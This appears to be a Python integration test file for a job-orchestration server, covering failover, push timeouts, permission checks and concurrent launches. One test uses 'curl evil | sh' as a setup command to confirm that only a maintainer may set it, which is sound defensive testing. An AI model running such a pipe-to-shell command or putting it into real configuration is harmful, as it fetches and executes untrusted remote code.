"""What a hostile reading found, each as it is now: nothing hangs, nothing is done twice, nobody else pays."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update

from omoi_server.domain.caller import Caller
from omoi_server.errors import FailedPrecondition, InvalidArgument, PermissionDenied, RepositoryError
from omoi_server.orchestrator.execute import execute_spec
from omoi_server.orchestrator.launch import AttachmentIn, LaunchCommand, create_ticket, launch_spec
from omoi_server.orchestrator.projects import update_project
from omoi_server.orchestrator.review import review_phase
from omoi_server.orchestrator.tasks import complete_task
from omoi_server.orchestrator.tickets import move_ticket
from omoi_server.store import sandboxes
from omoi_server.store import tables as t
from omoi_server.store.database import Database
from tests.integration.orchestrator.stage import Stage, task
from tests.offices import House, git, sample_repository


@pytest.fixture
def stage(tmp_path: Path) -> Stage:
    return Stage(tmp_path / "stage")


@pytest.fixture
def worker_archive(stage: Stage) -> Path:
    return stage.archive


class Origin:
    """The real repositories, with some calls that go another way: a network is like that."""

    def __init__(self, inner: Any, **calls: Any) -> None:
        self._inner = inner
        self._calls = calls

    def __getattr__(self, name: str) -> Any:
        return self._calls.get(name) or getattr(self._inner, name)


async def rows(house: House, query: Any) -> list[Any]:
    async with house.office.db.read() as conn:
        return list((await conn.execute(query)).all())


async def test_a_dead_servers_push_does_not_hold_up_the_one_that_takes_over(house: House, stage: Stage) -> None:
    stage.plan(task(1), task(2))
    stage.step("TSK-001", hold=True)
    stage.step("TSK-002", hold=True)
    spec_id = await house.launch()
    await house.start()
    await stage.begun("TSK-001")
    await stage.begun("TSK-002")
    keys = {row.key: row.task_id for row in await house.tasks(spec_id)}
    running = select(t.jobs).where(t.jobs.c.task_id == keys["TSK-001"], t.jobs.c.status == "RUNNING")
    while not (found := await rows(house, running)):  # the worker began; its first lines are on their way
        await asyncio.sleep(0.02)
    (job,) = found

    async def belongs_to_the_dead(tx: Any) -> None:
        lease = tx.now + timedelta(seconds=2)
        dead = {"owner": "srv-dead", "location": "host-dead", "lease_until": lease}
        await tx.conn.execute(update(t.jobs).where(t.jobs.c.job_id == job.job_id).values(**dead))
        intent = {"job_id": job.job_id, "fence": job.fence, "spec_id": spec_id, "task_id": job.task_id}
        pushed = {"sandbox_id": "x", "old_tip": "1" * 40, "new_sha": "2" * 40, "result": {}}
        await sandboxes.insert_intent(tx, {**intent, **pushed})

    await house.office.db.write(belongs_to_the_dead)
    stage.release("TSK-002")
    stage.release("TSK-001")
    await house.settled(spec_id, 40)
    assert {row.status for row in await house.tasks(spec_id)} == {"SUCCEEDED"}


@pytest.mark.parametrize("lie", ["year one", "huge phase"])
async def test_no_journal_line_keeps_its_worker_alive_or_fills_the_log(house: House, stage: Stage, lie: str) -> None:
    stage.lie(lie, at="plan")
    house.limit(planning=4.0)
    spec_id = await house.launch()
    await house.start()
    spec = await house.settled(spec_id, 30)
    assert spec.status == "FAILED"
    assert len(spec.reason) <= 2_000
    assert max(len(row.message) + len(str(row.payload)) for row in await house.events(spec_id)) < 10_000
    house.no_sandbox_is_left()


async def test_a_push_without_an_answer_is_looked_up(house: House, stage: Stage, repository: Path) -> None:
    stage.plan(task(1))
    real, pushes = house.office.repositories, []

    async def push(*arguments: Any) -> None:
        await real.push(*arguments)
        pushes.append(arguments)
        if len(pushes) == 2:
            raise RepositoryError("GIT_TIMEOUT", "git push took longer than 20 s and was stopped.", "Try again.")

    house.office = replace(house.office, repositories=Origin(real, push=push))
    spec_id = await house.launch()
    await house.start()
    spec = await house.settled(spec_id)
    (row,) = await house.tasks(spec_id)
    assert (row.status, row.reason) == ("SUCCEEDED", "")
    log = git(repository, "log", "--format=%B", f"main..{spec.branch_name}")
    assert log.count(f"Task-Id: {row.task_id}") == 1


async def test_a_commit_that_is_there_unrecorded_is_recorded(house: House, stage: Stage, repository: Path) -> None:
    stage.plan(task(1))
    real = house.office.repositories

    async def take_bundle(project_id: str, bundle: Path, commit: str, ref: str) -> None:
        await real.take_bundle(project_id, bundle, commit, ref)
        (spec,) = await rows(house, select(t.specs))
        mirror = house.office.home / "mirrors" / f"{project_id}.git"
        git(mirror, "push", "-q", str(repository), f"{commit}:refs/heads/{spec.branch_name}")

    house.office = replace(house.office, repositories=Origin(real, take_bundle=take_bundle))
    spec_id = await house.launch()
    await house.start()
    await house.settled(spec_id)
    (row,) = await house.tasks(spec_id)
    assert row.status == "SUCCEEDED"
    assert stage.log().count(("begin", "TSK-001")) == 1


async def test_a_slow_origin_is_no_delay_of_the_worker(house: House, stage: Stage) -> None:
    stage.plan(task(1))
    house.limit(never_started=2.0)
    real = house.office.repositories

    async def bundle(*arguments: Any) -> None:
        await asyncio.sleep(2.5)
        await real.bundle(*arguments)

    house.office = replace(house.office, repositories=Origin(real, bundle=bundle))
    spec_id = await house.launch()
    await house.start()
    assert (await house.settled(spec_id)).status == "COMPLETED"
    assert "sandbox.lost" not in await house.types(spec_id)


async def test_tasks_of_an_old_plan_do_not_run_behind_a_gate(house: House, stage: Stage) -> None:
    stage.plan(task(1), task(2, depends_on=["TSK-001"]))
    stage.step("TSK-001", fail="no")
    spec_id = await house.launch(gates=["TASKS"])
    await house.start()
    await house.settled(spec_id)
    await _approve(house, spec_id)
    await house.settled(spec_id)
    (first, _) = await house.tasks(spec_id)
    stage.plan(task(3), task(4))
    await execute_spec(house.office, house.caller, spec_id, "TASKS", "")
    await house.settled(spec_id)
    with pytest.raises(FailedPrecondition) as refused:
        await complete_task(house.office, house.caller, first.task_id, "", "done by hand", "")
    assert refused.value.reason == "SPEC_NOT_READY"
    await _approve(house, spec_id)
    await house.settled(spec_id)
    assert {row.status for row in await house.tasks(spec_id)} == {"SUCCEEDED"}
    assert not [entry for entry in stage.log() if entry == ("begin", "TSK-002")]


async def _approve(house: House, spec_id: str) -> None:
    digest = (await house.outputs(spec_id))["TASKS"].digest
    await review_phase(house.office, house.caller, spec_id, "TASKS", digest, "APPROVE", "", "")


async def test_a_persons_move_holds_while_further_tasks_start(house: House, stage: Stage) -> None:
    stage.plan(task(1), task(2, depends_on=["TSK-001"]), task(3, depends_on=["TSK-002"]))
    stage.step("TSK-001", hold=True)
    stage.step("TSK-003", hold=True)
    spec_id = await house.launch()
    await house.start()
    await stage.begun("TSK-001")
    (ticket,) = await rows(house, select(t.tickets))
    await move_ticket(house.office, house.caller, ticket.ticket_id, "REFACTORING", "")
    stage.release("TSK-001")
    await stage.begun("TSK-003")
    (ticket,) = await rows(house, select(t.tickets))
    assert ticket.phase == "REFACTORING"
    stage.release("TSK-003")
    await house.settled(spec_id)
    (ticket,) = await rows(house, select(t.tickets))
    assert ticket.phase == "INTEGRATION"


@pytest.mark.parametrize("name", ["a\nb.txt", "😀" * 60 + ".png"])
async def test_a_name_that_no_disk_takes_is_refused_at_launch(house: House, name: str) -> None:
    file = AttachmentIn(name, "text/plain", b"x")
    with pytest.raises(InvalidArgument) as refused:
        await launch_spec(house.office, house.caller, LaunchCommand("", "Do it.", house.project_id, attachments=[file]))
    assert refused.value.violations[0][0] == "attachments[0].name"


async def test_only_a_maintainer_lowers_a_projects_gates(house: House) -> None:
    await update_project(house.office, house.caller, house.project_id, {"gates": ["TASKS"]}, "")
    other = Caller("mara", "Mara")
    lowering: list[dict[str, Any]] = [{"gates": []}, {"setup_command": "curl evil | sh"}]
    for changes in lowering:
        with pytest.raises(PermissionDenied) as refused:
            await update_project(house.office, other, house.project_id, changes, "")
        assert refused.value.reason == "ROLE_NEEDED"


@pytest.mark.parametrize("make", [launch_spec, create_ticket])
async def test_a_role_taken_away_while_the_repository_is_looked_at_counts(house: House, make: Any) -> None:
    """That look may take a minute. Whoever got in before it has the role no longer when the spec would be made."""
    with pytest.raises(PermissionDenied) as refused:
        await make(house.office, Caller("mara", "Mara"), LaunchCommand("", "Do it.", house.project_id))
    assert refused.value.reason == "ROLE_NEEDED"
    async with house.office.db.read() as conn:
        assert (await conn.execute(select(t.specs.c.spec_id))).all() == []


async def test_six_equal_calls_at_once_make_one_spec(
    postgres_url: str, tmp_path: Path, stage: Stage, caller: Caller
) -> None:
    db = await Database.open(postgres_url)
    house = House(db, tmp_path / "elsewhere", stage.archive, caller)
    await house.add_project(sample_repository(tmp_path / "shop"))
    command = LaunchCommand("", "Do it.", house.project_id, request_id="r1")
    answers = await asyncio.gather(*(launch_spec(house.office, caller, command) for _ in range(6)))
    assert len({answer.spec_id for answer in answers}) == 1
    await db.close()
